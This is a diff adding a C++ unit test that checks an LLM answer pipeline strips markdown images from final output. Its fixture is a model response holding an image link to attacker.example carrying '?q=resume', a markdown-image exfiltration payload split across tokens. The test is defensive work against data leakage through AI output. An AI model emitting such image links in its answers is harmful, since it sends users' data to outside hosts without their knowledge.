@@ -43,6 +43,14 @@ TEST(GroundedAnswerTest, CompleteAnswerIsAnnotated) {
   EXPECT_EQ(client.requests()[0].max_tokens, PromptBudget{}.analysis_max_tokens);
 }
 
+TEST(GroundedAnswerTest, ImagesAreRemovedFromTheFinalAnswer) {
+  ScriptedLlmClient client;
+  client.Push(Tokens({"See ![x](https://attacker.example/", "?q=resume) here."}));
+  GroundedAnswer answer = CompleteGroundedAnswer(client, Request(), {});
+  ASSERT_TRUE(answer.outcome.complete);
+  EXPECT_EQ(answer.markdown, "See x here.");
+}
+
 TEST(GroundedAnswerTest, FailureKeepsThePartialTextAndNoMarkdown) {
   ScriptedLlmClient client;
   ScriptedAnswer timeout = Tokens({"Partial ", "answer"});
